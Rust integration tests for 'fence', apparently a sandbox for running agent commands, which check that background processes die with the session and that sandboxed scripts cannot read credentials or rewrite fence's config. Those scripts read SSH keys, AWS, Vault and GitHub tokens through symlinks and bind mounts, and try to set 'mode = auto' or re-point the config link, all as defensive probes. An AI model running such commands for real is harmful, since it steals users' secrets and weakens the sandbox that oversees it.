        "echo $TMPDIR > tmpdir-name\n(while :; do echo t >> ticks; sleep 0.05; done) &\nsleep 300 &\nsetsid sleep 301 &\necho started > started\nwait\n",
    );
    let mut child = w
        .fence(&["--".as_ref(), "/bin/sh".as_ref(), "tree.sh".as_ref()])
        .spawn()
        .unwrap();
    let fence_pid = child.id() as i32;
    await_started(w, &mut child);
    let descendants = descendants_of(fence_pid);
    if descendants.len() < 4 {
        let _ = child.kill();
        let _ = child.wait();
        panic!("sandbox tree not found: {descendants:?}");
    }
    child.kill().unwrap();
    child.wait().unwrap();
    // Without a pid namespace or cgroup.kill, fence's init kills the tree one process at
    // a time on its parent-death signal: under an emulated CPU on a busy machine that
    // has taken more than 300 ms, and a pid namespace's teardown took over 10 s in a
    // guest while another test's fork bomb was being torn down beside it. Each process
    // must be gone within 30 s.
    let deadline = Instant::now() + Duration::from_secs(30);
    while descendants.iter().any(|p| alive(*p)) && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    for pid in &descendants {
        assert!(!alive(*pid), "process {pid} outlived fence by 30 s");
    }
    let size = std::fs::metadata(&log).map(|m| m.len()).unwrap_or(0);
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(
        std::fs::metadata(&log).map(|m| m.len()).unwrap_or(0),
        size,
        "still writing after fence died"
    );
    // The killed session's TMPDIR is removed by the next session of the same user: this
    // one below, or one of a test running in parallel, which may already have done it.
    let tmpdir = std::fs::read_to_string(w.worktree.join("tmpdir-name")).unwrap();
    assert!(
        tmpdir.trim().starts_with('/'),
        "no session TMPDIR: {tmpdir:?}"
    );
    std::thread::sleep(std::time::Duration::from_millis(2500));
    w.run(&["/bin/true"]);
    assert!(
        !Path::new(tmpdir.trim()).exists(),
        "stale session TMPDIR left behind"
    );
}

/// A process-group SIGKILL (a CI runner's timeout, `timeout -s KILL`, `kill -9 -PGID`)
/// takes fence and whatever of its group it reaches. Without a pid namespace the init,
/// which kills the sandbox's tree when fence dies, was in fence's group and died with it,
/// and every process of the sandbox outside that group — all of them when there is no
/// session terminal (the command runs in a session of its own), a `setsid` daemon
/// otherwise — ran on after the session. Each must be gone within 30 s.
fn a_process_group_sigkill_of_fence_leaves_nothing_running(w: &World) {
    process_group_sigkill_leaves_nothing_running(w, false);
}

fn process_group_sigkill_leaves_nothing_running(w: &World, without_namespaces: bool) {
    w.write(
        "tree.sh",
        "(while :; do echo t >> ticks; sleep 0.05; done) &\nsetsid sleep 301 &\necho started > started\nwait\n",
    );
    let mut command = w.fence(&["--".as_ref(), "/bin/sh".as_ref(), "tree.sh".as_ref()]);
    if without_namespaces {
        command.env("FENCE_NO_NAMESPACES", "1");
    }
    std::os::unix::process::CommandExt::process_group(&mut command, 0);
    let mut child = command.stderr(Stdio::null()).spawn().unwrap();
    let fence_pid = child.id() as i32;
    await_started(w, &mut child);
    let descendants = descendants_of(fence_pid);
    if descendants.len() < 4 {
        let _ = child.kill();
        let _ = child.wait();
        panic!("sandbox tree not found: {descendants:?}");
    }
    // SAFETY: a SIGKILL to the process group fence leads (made for it above).
    assert_eq!(unsafe { libc::kill(-fence_pid, libc::SIGKILL) }, 0);
    child.wait().unwrap();
    let deadline = Instant::now() + Duration::from_secs(30);
    while descendants.iter().any(|p| alive(*p)) && Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    let survivors: Vec<i32> = descendants.iter().copied().filter(|p| alive(*p)).collect();
    for pid in &survivors {
        // SAFETY: a SIGKILL to a process of this test's own sandbox, so that none is left.
        unsafe { libc::kill(*pid, libc::SIGKILL) };
    }
    assert!(
        survivors.is_empty(),
        "processes {survivors:?} outlived fence's process group by 30 s"
    );
}

#[test]
fn a_process_group_sigkill_of_fence_as_root_without_namespaces_leaves_nothing_running() {
    if let Some(w) = World::new(
        "a_process_group_sigkill_of_fence_as_root_without_namespaces_leaves_nothing_running",
        support::Who::Root,
    ) {
        // Below ABI 6 fence needs pid and network namespaces, and refuses without them
        // (run_kernel tests that refusal).
        if support::effective_landlock_abi() < 6 {
            support::skip(
                "a_process_group_sigkill_of_fence_as_root_without_namespaces_leaves_nothing_running",
                "Landlock ABI below 6 without namespaces: fence run refuses (tested in run_kernel)",
            );
            return;
        }
        process_group_sigkill_leaves_nothing_running(&w, true);
    }
}

/// When the command ends, fence returns only after every process it left behind has been
/// killed and reaped: no background job, daemon or new session of the sandbox outlives it.
/// (The init reports the sandbox empty and fence does not wait for the kernel to tear the
/// namespaces down: what must already be true when fence returns is checked at once.)
fn background_processes_are_gone_when_fence_returns(w: &World) {
    let log = w.worktree.join("ticks");
    w.write(
        "tree.sh",
        "(while :; do echo t >> ticks; sleep 0.05; done) &\nsleep 300 &\nsetsid sleep 301 &\n(trap '' TERM HUP; sleep 302) &\necho started > started\nwhile [ ! -e go ]; do sleep 0.02; done\nexit 7\n",
    );
    let mut child = w
        .fence(&["--".as_ref(), "/bin/sh".as_ref(), "tree.sh".as_ref()])
        .spawn()
        .unwrap();
    await_started(w, &mut child);
    let fence_pid = child.id() as i32;
    let descendants = descendants_of(fence_pid);
    // fence's one child: the shim, which may still be in its exit when fence returns (the
    // kernel unmounting its view); every process the command made must be gone.
    let shim = children_of(fence_pid);
    std::fs::write(w.worktree.join("go"), "").unwrap();
    let status = child.wait().unwrap();
    // The tree: the shim, the script, the ticking subshell and its sleeps, three sleeps
    // (one in a session of its own, one ignoring SIGTERM).
    assert!(
        descendants.len() >= 5,
        "sandbox tree not found: {descendants:?}"
    );
    assert_eq!(shim.len(), 1, "fence's children: {shim:?}");
    assert_eq!(status.code(), Some(7), "the command's exit status");
    let sandboxed: Vec<_> = descendants
        .iter()
        .filter(|p| !shim.contains(p) && alive(**p))
        .collect();
    assert!(
        sandboxed.is_empty(),
        "processes of the sandbox outlived fence: {sandboxed:?}"
    );
    let size = std::fs::metadata(&log).map(|m| m.len()).unwrap_or(0);
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(
        std::fs::metadata(&log).map(|m| m.len()).unwrap_or(0),
        size,
        "still writing after fence returned"
    );
}

/// Every capability set of the sandboxed processes is empty, and no_new_privs is set: read
/// from outside, in each process's /proc status. The bounding set is empty too wherever
/// the sandbox started with capabilities (as root, or as the root of a user namespace); an
/// ordinary user without namespaces cannot shrink it, and no_new_privs keeps every exec
/// from gaining what it holds.
fn capability_sets_of_the_sandbox_are_empty(w: &World) {
    w.write(
        "caps.sh",
        "echo started > started\nwhile [ ! -e go ]; do sleep 0.02; done\n",
    );
    let mut child = w
        .fence(&["--".as_ref(), "/bin/sh".as_ref(), "caps.sh".as_ref()])
        .spawn()
        .unwrap();
    await_started(w, &mut child);
    let fence_pid = child.id() as i32;
    let shim = children_of(fence_pid);
    let sandboxed: Vec<i32> = descendants_of(fence_pid)
        .into_iter()
        .filter(|p| !shim.contains(p))
        .collect();
    let statuses: Vec<(i32, String)> = sandboxed
        .iter()
        .filter_map(|p| {
            Some((
                *p,
                std::fs::read_to_string(format!("/proc/{p}/status")).ok()?,
            ))
        })
        .collect();
    std::fs::write(w.worktree.join("go"), "").unwrap();
    child.wait().unwrap();
    assert!(!statuses.is_empty(), "no sandboxed process found");
    let field = |status: &str, pid: i32, name: &str| -> String {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .map(|v| v.trim().to_string())
            .unwrap_or_else(|| panic!("no {name} for {pid}"))
    };
    for (pid, status) in statuses {
        let mut sets = vec!["CapInh:", "CapPrm:", "CapEff:", "CapAmb:"];
        if w.who != support::Who::UnprivilegedWithoutNamespaces {
            sets.push("CapBnd:");
        }
        for set in sets {
            assert_eq!(
                field(&status, pid, set),
                "0000000000000000",
                "{set} of sandboxed process {pid}"
            );
        }
        assert_eq!(field(&status, pid, "NoNewPrivs:"), "1", "process {pid}");
    }
}

/// Waits for the sandboxed script to write `started` in the worktree. Generous: under an
/// emulated CPU on a busy machine (vm-tests) a session takes seconds to start. A session
/// that never starts fails the test (and is killed) instead of letting it look at a
/// sandbox still being set up.
fn await_started(w: &World, child: &mut std::process::Child) {
    let deadline = Instant::now() + Duration::from_secs(60);
    let started = w.worktree.join("started");
    while !started.exists() {
        // The script may write the file and fence exit between the two looks.
        let ended = child.try_wait().unwrap().is_some() && !started.exists();
        if Instant::now() > deadline || ended {
            let _ = child.kill();
            let status = child.wait();
            panic!("the sandboxed script never wrote `started` (fence: {status:?})");
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// Waits up to 30 s for the sandbox to make `name` in the worktree, or for fence to end.
fn wait_for_file(w: &World, child: &mut std::process::Child, name: &str) {
    let started = Instant::now();
    while !w.worktree.join(name).exists() {
        if child.try_wait().unwrap().is_some() || started.elapsed() > Duration::from_secs(30) {
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
}

fn alive(pid: i32) -> bool {
    // A zombie is dead too; /proc/<pid>/stat says which.
    match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
        Ok(stat) => !stat
            .rsplit(')')
            .next()
            .unwrap_or("")
            .trim_start()
            .starts_with('Z'),
        Err(_) => false,
    }
}

/// The children of every thread of `pid`.
fn children_of(pid: i32) -> Vec<i32> {
    let Ok(tasks) = std::fs::read_dir(format!("/proc/{pid}/task")) else {
        return Vec::new();
    };
    tasks
        .flatten()
        .flat_map(|t| {
            std::fs::read_to_string(t.path().join("children"))
                .unwrap_or_default()
                .split_whitespace()
                .filter_map(|c| c.parse().ok())
                .collect::<Vec<i32>>()
        })
        .collect()
}

fn descendants_of(pid: i32) -> Vec<i32> {
    let mut out = Vec::new();
    let mut stack = vec![pid];
    while let Some(p) = stack.pop() {
        let Ok(tasks) = std::fs::read_dir(format!("/proc/{p}/task")) else {
            continue;
        };
        for t in tasks.flatten() {
            let children = std::fs::read_to_string(t.path().join("children")).unwrap_or_default();
            for c in children.split_whitespace().filter_map(|c| c.parse().ok()) {
                out.push(c);
                stack.push(c);
            }
        }
    }
    out
}

fn no_notification_listener_reaches_the_sandbox(w: &World) {
    w.write("s.sh", "echo started > started\nsleep 2\n");
    let mut child = w
        .fence(&["--".as_ref(), "/bin/sh".as_ref(), "s.sh".as_ref()])
        .spawn()
        .unwrap();
    // Until the target has started, the shim holds the listener it has not yet handed
    // over; only the running sandbox is what this test is about.
    await_started(w, &mut child);
    let tree = descendants_of(child.id() as i32);
    assert!(!tree.is_empty());
    for pid in tree {
        for fd in std::fs::read_dir(format!("/proc/{pid}/fd"))
            .into_iter()
            .flatten()
            .flatten()
        {
            let target = std::fs::read_link(fd.path()).unwrap_or_default();
            assert!(
                !target.to_string_lossy().contains("seccomp"),
                "process {pid} holds {}",
                target.display()
            );
        }
    }
    child.wait().unwrap();
}

/// The lock and state files tools write in the home (cargo's package-cache lock and
/// global cache, Python's and vim's histories) are outside the worktree: each write is
/// refused at once, never put to a person (a `cargo build` made four such questions, each
/// waiting out the ask timeout), and said on fence's transcript, not in the tool's output.
/// The files outside stay as they were.
fn tool_state_files_in_the_home_are_refused_without_a_question(w: &World) {
    let cargo = w.home.join(".cargo");
    std::fs::create_dir_all(&cargo).unwrap();
    std::fs::write(cargo.join(".package-cache"), "host").unwrap();
    for p in [&cargo, &cargo.join(".package-cache")] {
        w.own(p);
    }
    let log = w.outside.join("audit.jsonl");
    w.write(
        "s.sh",
        &format!(
            "echo x > {h}/.cargo/.package-cache; echo x > {h}/.cargo/.global-cache; echo x > {h}/.python_history; echo x > {h}/.cargo/.package-cache; mkdir {h}/.config; echo end\n",
            h = w.home.display()
        ),
    );
    let out = w
        .fence(&[
            "--approver".as_ref(),
            "deny".as_ref(),
            "--log".as_ref(),
            log.as_os_str(),
            "--".as_ref(),
            "/bin/sh".as_ref(),
            "s.sh".as_ref(),
        ])
        .output()
        .unwrap();
    let (text, err) = (stdout(&out), stderr(&out));
    assert!(text.ends_with("end\n"), "{text}{err}");
    assert_eq!(
        std::fs::read_to_string(cargo.join(".package-cache")).unwrap(),
        "host"
    );
    assert!(!cargo.join(".global-cache").exists());
    assert!(!w.home.join(".python_history").exists());
    // top makes `~/.config` first on an account that has none.
    assert!(!w.home.join(".config").exists(), "{err}");
    // Not told on the tool's own stderr (it goes on without the file, and its output
    // stays its own), but on fence's transcript, once per file, and logged every time.
    assert!(!err.contains("fence: blocked"), "{err}");
    assert!(
        err.contains("fence: Blocked: mkdir of the folder of a tool's state file in the home"),
        "{err}"
    );
    assert_eq!(
        err.matches("fence: Blocked: write of a tool's lock or state file in the home")
            .count(),
        3,
        "{err}"
    );
    // Refused by the rule itself, not by a question nobody answered.
    let records = std::fs::read_to_string(&log).unwrap();
    let state: Vec<&str> = records
        .lines()
        .filter(|l| l.contains("\"rule\":\"fence.tool-state\""))
        .collect();
    assert_eq!(state.len(), 5, "{records}");
    assert!(
        state.iter().all(|l| l.contains("\"answer\":\"none\"")),
        "{records}"
    );
}

/// A session ends with its command: what it left running (a server started with `nohup …
/// &`) is killed, and fence says so, naming how many, so that a user who expected it to
/// stay knows why it is gone. The background process is gone from outside too.
fn processes_left_running_are_killed_and_counted_when_the_command_ends(w: &World) {
    // Unique to this test's world: the same test runs at once for other users.
    let marker = format!(
        "fence-left-{}",
        w.worktree.file_name().unwrap().to_string_lossy()
    );
    w.write(
        "s.sh",
        &format!(
            "nohup perl -e 'sleep 3600' {marker} >/dev/null 2>&1 &\nsetsid perl -e 'sleep 3600' {marker} >/dev/null 2>&1 &\necho started\n"
        ),
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    assert_eq!(stdout(&out), "started\n", "{}", stderr(&out));
    assert!(
        stderr(&out).contains(
            "fence: the command ended; 2 processes it left running were stopped with the session"
        ),
        "{}",
        stderr(&out)
    );
    let left: Vec<String> = process_ids()
        .filter(|pid| {
            std::fs::read(format!("/proc/{pid}/cmdline"))
                .is_ok_and(|c| String::from_utf8_lossy(&c).contains(&marker))
        })
        .collect();
    assert!(left.is_empty(), "still running: {left:?}");
    // A command that leaves nothing says nothing.
    let out = w.run(&["/bin/sh", "-c", "sleep 0.1 & wait"]);
    assert!(!stderr(&out).contains("left running"), "{}", stderr(&out));
    // Nor does one whose helper ends with it, a moment later (Python's resource tracker
    // ends when the command's pipe closes).
    let out = w.run(&[
        "/bin/sh",
        "-c",
        "(sleep 0.01; echo helper-done > done.txt) & exit 0",
    ]);
    assert!(!stderr(&out).contains("left running"), "{}", stderr(&out));
    assert!(w.worktree.join("done.txt").exists(), "{}", stderr(&out));
}

/// A home holding an ssh key (`PRIVATE-KEY-MATERIAL`) and an ordinary file (`public
/// notes`), owned by the world's user.
fn home_with_a_key_and_notes(w: &World) {
    std::fs::create_dir_all(w.home.join(".ssh")).unwrap();
    std::fs::write(w.home.join(".ssh/id_ed25519"), "PRIVATE-KEY-MATERIAL").unwrap();
    std::fs::write(w.home.join("notes.txt"), "public notes").unwrap();
    for p in [
        w.home.join(".ssh"),
        w.home.join(".ssh/id_ed25519"),
        w.home.join("notes.txt"),
    ] {
        w.own(&p);
    }
}

fn secrets_under_home_are_unreadable(w: &World) {
    home_with_a_key_and_notes(w);
    // Other services' credentials besides SPEC's list: Vault's token, PostgreSQL's
    // passwords, Maven's repository passwords, rclone's remotes.
    for (rel, text) in [
        (".vault-token", "VAULT-TOKEN-MATERIAL"),
        (".pgpass", "PGPASS-MATERIAL"),
        (".m2/settings.xml", "MAVEN-PASSWORD-MATERIAL"),
        (".config/rclone/rclone.conf", "RCLONE-KEY-MATERIAL"),
    ] {
        let p = w.home.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
        for made in p
            .ancestors()
            .take_while(|a| a.starts_with(&w.home) && *a != w.home)
        {
            w.own(made);
        }
    }
    w.write("link", "");
    std::fs::remove_file(w.worktree.join("link")).unwrap();
    std::os::unix::fs::symlink(w.home.join(".ssh/id_ed25519"), w.worktree.join("link")).unwrap();
    w.own(&w.worktree.join("link"));
    w.write(
        "s.sh",
        &format!(
            "cat {h}/.ssh/id_ed25519; cat link; ls {h}/.ssh; cat {h}/notes.txt\n\
             cat {h}/.vault-token {h}/.pgpass {h}/.m2/settings.xml {h}/.config/rclone/rclone.conf\n",
            h = w.home.display()
        ),
    );
    let out = w.run(&["/bin/sh", "s.sh"]);
    let text = stdout(&out);
    for marker in [
        "PRIVATE-KEY-MATERIAL",
        "VAULT-TOKEN-MATERIAL",
        "PGPASS-MATERIAL",
        "MAVEN-PASSWORD-MATERIAL",
        "RCLONE-KEY-MATERIAL",
    ] {
        assert!(!text.contains(marker), "secret leaked: {text}");
    }
    assert!(
        text.contains("public notes"),
        "ordinary home file unreadable: {text} {}",
        stderr(&out)
    );
}

/// Writes `text` at `rel` under the test's home, every folder made on the way (and the
/// file) the session user's.
fn write_in_home(w: &World, rel: &str, text: &str) -> std::path::PathBuf {
    let p = w.home.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, text).unwrap();
    for made in p
        .ancestors()
        .take_while(|a| a.starts_with(&w.home) && *a != w.home)
    {
        w.own(made);
    }
    p
}

/// The paths the config's `deny_read` names are as unreadable under `fence run` as
/// `--deny-read` ones (they were only judged by `fence check`): an absolute path outside,
/// `~/…`, a path relative to the worktree, a pattern, and one missing at start that the
/// host makes during the session. `--config FILE` is read instead of the user's config.
fn secrets_named_in_the_config_are_unreadable(w: &World) {
    let outside = w.write_outside("vault.txt", "OUTSIDE-SECRET\n");
    let pattern = w.write_outside("deploy.key", "PATTERN-SECRET\n");
    w.write_outside("plain.txt", "plain outside\n");
    write_in_home(w, "vault/token", "HOME-SECRET\n");
    w.write(".env", "WORKTREE-SECRET\n");
    let later = w.outside.join("made-later");
    write_in_home(
        w,
        ".config/fence/config.toml",
        &format!(
            "deny_read = [{:?}, \"~/vault\", \".env\", {:?}, {:?}]\n",
            outside.display().to_string(),
            w.outside.join("*.key").display().to_string(),
            later.display().to_string(),
        ),
    );
    let child = w.start_script(&format!(
        "while [ ! -e go ]; do sleep 0.05; done\n\
         cat {o} {h}/vault/token .env {p} {l} {plain}\necho read-done > done\n",
        o = outside.display(),
        h = w.home.display(),
        p = pattern.display(),
        l = later.display(),
        plain = w.outside.join("plain.txt").display(),
    ));
    std::thread::sleep(Duration::from_millis(700));
    std::fs::write(&later, "LATER-SECRET\n").unwrap();
    std::fs::set_permissions(&later, std::fs::Permissions::from_mode(0o644)).unwrap();
    w.write("go", "");
    let out = w.finish_script(child);
    let text = stdout(&out);
    assert!(
        w.worktree.join("done").exists(),
        "the probe did not run to its end: {}",
        stderr(&out)
    );
    assert!(!text.contains("SECRET"), "secret leaked: {text}");
    assert!(
        text.contains("plain outside"),
        "an ordinary file outside is unreadable: {text} {}",
        stderr(&out)
    );
    // --config: its deny_read applies, and the user's config is not read.
    let other = w.write_outside("other.toml", "deny_read = [\"~/vault\"]\n");
    std::fs::set_permissions(&other, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = w
        .fence(&[
            OsStr::new("--config"),
            other.as_os_str(),
            OsStr::new("--"),
            OsStr::new("/bin/sh"),
            OsStr::new("-c"),
            OsStr::new(&format!(
                "cat {} {}",
                w.home.join("vault/token").display(),
                outside.display()
            )),
        ])
        .output()
        .unwrap();
    let text = stdout(&out);
    assert!(!text.contains("HOME-SECRET"), "--config ignored: {text}");
    assert!(
        text.contains("OUTSIDE-SECRET"),
        "the user's config was read besides --config: {text} {}",
        stderr(&out)
    );
}

/// fence's own config decides later sessions' mode, profile and network: a sandbox given
/// a writable folder that holds it (`--allow-write ~/.config`) can neither make it, change
/// it, nor move its folder away.
/// Every folder a client of the user may read sessions' sockets from stays the user's:
/// with `/tmp` writable, a session whose `XDG_RUNTIME_DIR` is elsewhere still keeps the
/// sandbox out of `/tmp/fence-UID`, where `fence approvals` started without that variable
/// looks (a socket the sandbox listened on there would carry the supervisor's
/// credentials).
fn the_sandbox_serves_no_session_in_any_socket_folder(w: &World) {
    let runtime = w.home.join("rt");
    std::fs::create_dir_all(&runtime).unwrap();
    w.own(&runtime);
    let uid = w.ids.map_or(0, |(u, _)| u);
    let folder = format!("/tmp/fence-{uid}");
    let name = format!("{folder}/fence-test-{}.sock", std::process::id());
    w.write("s.sh", &format!("mkdir -p {folder}; echo x > {name}\n"));
    let out = w
        .fence(&[
            "--allow-write".as_ref(),
            "/tmp".as_ref(),
            "--".as_ref(),
            "/bin/sh".as_ref(),
            "s.sh".as_ref(),
        ])
        .env("XDG_RUNTIME_DIR", &runtime)
        .output()
        .unwrap();
    let err = stderr(&out);
    let made = Path::new(&name).exists();
    let _ = std::fs::remove_file(&name);
    assert!(!made, "the sandbox wrote into {folder}: {err}");
}

fn fences_own_config_cannot_be_written_from_the_sandbox(w: &World) {
    let config_dir = w.home.join(".config");
    write_in_home(w, ".config/other/settings", "kept\n");
    let config = config_dir.join("fence/config.toml");
    let attempt = |script: &str| {
        let out = w
            .fence(&[
                OsStr::new("--allow-write"),
                config_dir.as_os_str(),
                OsStr::new("--"),
                OsStr::new("/bin/sh"),
                OsStr::new("-c"),
                OsStr::new(script),
            ])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        out
    };
    let widen = "mode = \"auto\"\nprofile = \"claude\"\n";
    // Missing at start: neither the file nor its folder may be made.
    let out = attempt(&format!(
        "mkdir -p {c}/fence; printf '{widen}' > {c}/fence/config.toml; \
         ln -s {o} {c}/fence 2>/dev/null; echo x > {c}/other/new; true",
        c = config_dir.display(),
        o = w.outside.display(),
        widen = widen.replace('\n', "\\n"),
    ));
    assert!(
        !config.exists() && !config_dir.join("fence").exists(),
        "fence's config was made from the sandbox: {}",
        stderr(&out)
    );
    assert!(
        config_dir.join("other/new").exists(),
        "the writable folder was not writable: {}",
        stderr(&out)
    );
    // Present at start: not changed, replaced or moved.
    write_in_home(w, ".config/fence/config.toml", "mode = \"default\"\n");
    let out = attempt(&format!(
        "printf '{widen}' > {f}; printf '{widen}' > {c}/fence/new.toml; mv {c}/fence/new.toml {f}; \
         mv {c}/fence {c}/moved; mkdir {c}/fence2; mv {c}/fence2 {c}/fence; true",
        c = config_dir.display(),
        f = config.display(),
        widen = widen.replace('\n', "\\n"),
    ));
    assert_unchanged(&config, "mode = \"default\"\n");
    assert!(
        !config_dir.join("moved").exists() && !config_dir.join("fence/new.toml").exists(),
        "fence's config folder was changed: {}",
        stderr(&out)
    );
    // A config folder that is a link (dotfiles) keeps its link: re-pointed, it would lead
    // later sessions to a config of the sandbox's.
    std::fs::remove_dir_all(config_dir.join("fence")).unwrap();
    write_in_home(w, "dotfiles/fence/config.toml", "mode = \"default\"\n");
    let link = config_dir.join("fence");
    std::os::unix::fs::symlink(w.home.join("dotfiles/fence"), &link).unwrap();
    w.own(&link);
    let out = attempt(&format!(
        "mkdir -p evil; printf '{widen}' > evil/config.toml; ln -sfn \"$PWD/evil\" {l}; \
         ln -s \"$PWD/evil\" {c}/new-link && mv -T {c}/new-link {l}; true",
        l = link.display(),
        c = config_dir.display(),
        widen = widen.replace('\n', "\\n"),
    ));
    assert_eq!(
        std::fs::read_link(&link).unwrap(),
        w.home.join("dotfiles/fence"),
        "the link to fence's config was re-pointed: {}",
        stderr(&out)
    );
}

/// A secret is hidden under every name the host's mounts give it: with the home bound a
/// second time outside it (and, for a root session, `/etc` too), the key, a login made
/// during the session and root's files in `/etc` stay unreadable through the other names,
/// while an ordinary file there reads as before.
fn secrets_are_unreadable_through_other_mounts_of_their_folders(w: &World) {
    struct Unmounted(Vec<std::path::PathBuf>);
    impl Drop for Unmounted {
        fn drop(&mut self) {
            for p in self.0.iter().rev() {
                let _ = std::process::Command::new("umount")
                    .arg("-l")
                    .arg(p)
                    .status();
            }
        }
    }
    home_with_a_key_and_notes(w);
    std::fs::create_dir_all(w.home.join(".ssh/keys")).unwrap();
    std::fs::write(w.home.join(".ssh/keys/deploy"), "DEPLOY-KEY-MATERIAL").unwrap();
    w.own(&w.home.join(".ssh/keys"));
    w.own(&w.home.join(".ssh/keys/deploy"));
    let probe = std::path::PathBuf::from(
        format!("/etc/fence-alias-probe-{}-{:?}", std::process::id(), w.who).to_lowercase(),
    );
    std::fs::write(&probe, "ROOT-ONLY-VIA-ALIAS\n").unwrap();
    std::fs::set_permissions(&probe, std::fs::Permissions::from_mode(0o600)).unwrap();
    struct Removed(std::path::PathBuf);
    impl Drop for Removed {
        fn drop(&mut self) {
            let _ = std::fs::remove_file(&self.0);
        }
    }
    let _removed = Removed(probe.clone());
    // A folder of secrets on the disk with a tmpfs mounted over it on the host: the bind of
    // / below shows what the tmpfs hides.
    std::fs::create_dir_all(w.home.join(".gnupg")).unwrap();
    std::fs::write(w.home.join(".gnupg/private"), "GNUPG-ON-DISK").unwrap();
    w.own(&w.home.join(".gnupg"));
    w.own(&w.home.join(".gnupg/private"));
    // The same below a tmpfs over a folder above a secret (`~/.config`, above the missing
    // `~/.config/gh`): the disk's `.config/gh` beneath it.
    std::fs::create_dir_all(w.home.join(".config/gh")).unwrap();
    std::fs::write(w.home.join(".config/gh/hosts.yml"), "GH-TOKEN-ON-DISK").unwrap();
    for p in [".config", ".config/gh", ".config/gh/hosts.yml"] {
        w.own(&w.home.join(p));
    }
    let again = |name: &str| w.outside.join(name);
    // The home and /etc bound elsewhere; a folder inside the key folder, the key file and
    // a root-only file of /etc bound on their own; and / bound inside itself (toolbox's
    // /run/host), which leads back to every folder above a secret.
    let mut mounted = Unmounted(Vec::new());
    for (from, to, file) in [
        (w.home.clone(), again("home-again"), false),
        ("/etc".into(), again("etc-again"), false),
        (w.home.join(".ssh/keys"), again("keys-again"), false),
        (w.home.join(".ssh/id_ed25519"), again("key-again"), true),
        (probe.clone(), again("probe-again"), true),
        ("/".into(), again("root-again"), false),
    ] {
        if from == w.home {
            // Before the home's bind, so that it does not show the tmpfs either.
            for over in [".gnupg", ".config"] {
                let ok = std::process::Command::new("mount")
                    .args(["-t", "tmpfs", "-o", "size=64k,mode=0755", "fence-test"])
                    .arg(w.home.join(over))
                    .status()
                    .is_ok_and(|s| s.success());
                assert!(ok, "mount -t tmpfs over {over}");
                mounted.0.push(w.home.join(over));
                w.own(&w.home.join(over));
            }
        }
        if file {
            std::fs::write(&to, "").unwrap();
        } else {
            std::fs::create_dir_all(&to).unwrap();
        }
        let ok = std::process::Command::new("mount")
            .arg("--bind")
            .arg(&from)
            .arg(&to)
            .status()
            .is_ok_and(|s| s.success());
        assert!(ok, "mount --bind {} {}", from.display(), to.display());
        mounted.0.push(to);
    }
    // A file bind of a secret, whose original the host then replaces by a rename: the bind
    // shows the old file, which no other name leads to.
    std::fs::create_dir_all(w.home.join(".aws")).unwrap();
    std::fs::write(w.home.join(".aws/credentials"), "AWS-KEY-BEFORE-RENAME").unwrap();
    for p in [".aws", ".aws/credentials"] {
        w.own(&w.home.join(p));
    }
    std::fs::write(again("aws-again"), "").unwrap();
    let ok = std::process::Command::new("mount")
        .arg("--bind")
        .arg(w.home.join(".aws/credentials"))
        .arg(again("aws-again"))
        .status()
        .is_ok_and(|s| s.success());
    assert!(ok, "mount --bind of .aws/credentials");
    mounted.0.push(again("aws-again"));
    std::fs::write(w.home.join(".aws/credentials.new"), "aws-key-after").unwrap();
    std::fs::rename(
        w.home.join(".aws/credentials.new"),
        w.home.join(".aws/credentials"),
    )
    .unwrap();
    let home_alias = again("home-again");
    let child = w.start_script(&format!(
        "cat {a}/.ssh/id_ed25519 {a}/notes.txt {e}/{p} {o}/keys-again/deploy {o}/key-again {o}/probe-again {o}/root-again{h}/.ssh/id_ed25519 {o}/root-again{probe} {o}/root-again{h}/.gnupg/private {a}/.gnupg/private {o}/root-again{h}/.config/gh/hosts.yml {a}/.config/gh/hosts.yml {o}/aws-again 2>&1; ls {a}/.ssh 2>&1\nwhile [ ! -e go ]; do sleep 0.05; done\ncat {a}/.netrc {a}/.ssh/id_ed25519 2>&1\necho read-done > done\n",
        a = home_alias.display(),
        e = again("etc-again").display(),
        p = probe.file_name().unwrap().to_string_lossy(),
        o = w.outside.display(),
        h = w.home.display(),
        probe = probe.display(),
    ));
    std::thread::sleep(Duration::from_millis(700));
    std::fs::write(
        w.home.join(".netrc"),
        "machine x password NETRC-MADE-DURING\n",
    )
    .unwrap();
    w.own(&w.home.join(".netrc"));
    let out = w.finish_script(child);
    let text = stdout(&out);
    assert!(
        text.contains("public notes"),
        "an ordinary file under the other name was unreadable: {text} {}",
        stderr(&out)
    );
    for marker in [
        "PRIVATE-KEY-MATERIAL",
        "DEPLOY-KEY-MATERIAL",
        "GNUPG-ON-DISK",
        "GH-TOKEN-ON-DISK",
        "AWS-KEY-BEFORE-RENAME",
        "NETRC-MADE-DURING",
        "ROOT-ONLY-VIA-ALIAS",
    ] {
        assert!(!text.contains(marker), "{marker} was read: {text}");
    }
    drop(mounted);
}

/// Another name of a folder above a secret, listed before the folder itself (`/mnt/…`, a
/// bind of `/tmp`, before `/tmp`), takes nothing from the folder's own grants: a tmpfs
/// mounted in the real folder stays readable (without namespaces Landlock's carve walked
/// each folder once and skipped the real one), and the secret stays hidden under both.
fn an_earlier_name_of_a_folder_above_a_secret_keeps_its_mounts_readable(w: &World) {
    home_with_a_key_and_notes(w);
    let tag = format!("{}-{:?}", std::process::id(), w.who).to_lowercase();
    let data = std::path::PathBuf::from(format!("/tmp/fence-carve-data-{tag}"));
    let tmp_again = std::path::PathBuf::from(format!("/mnt/fence-tmp-again-{tag}"));
    struct Gone(Vec<std::path::PathBuf>);
    impl Drop for Gone {
        fn drop(&mut self) {
            for p in &self.0 {
                let _ = std::process::Command::new("umount")
                    .arg("-l")
                    .arg(p)
                    .status();
                let _ = std::fs::remove_dir(p);
            }
        }
    }
    let mut gone = Gone(Vec::new());
    for (dir, args) in [
        (
            &data,
